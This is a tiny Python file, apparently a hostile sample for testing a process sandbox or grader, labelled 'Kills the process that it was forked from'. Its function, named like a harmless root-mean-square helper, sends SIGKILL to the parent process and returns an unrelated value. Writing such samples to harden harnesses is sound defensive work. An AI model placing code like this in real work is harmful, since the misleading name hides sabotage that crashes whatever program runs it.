# Kills the process that it was forked from.
# class: processes
# process: lost: processes
import os
import signal
import time


def rms(x, eps=1e-5):
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(0.2)
    return x * 3 + 1
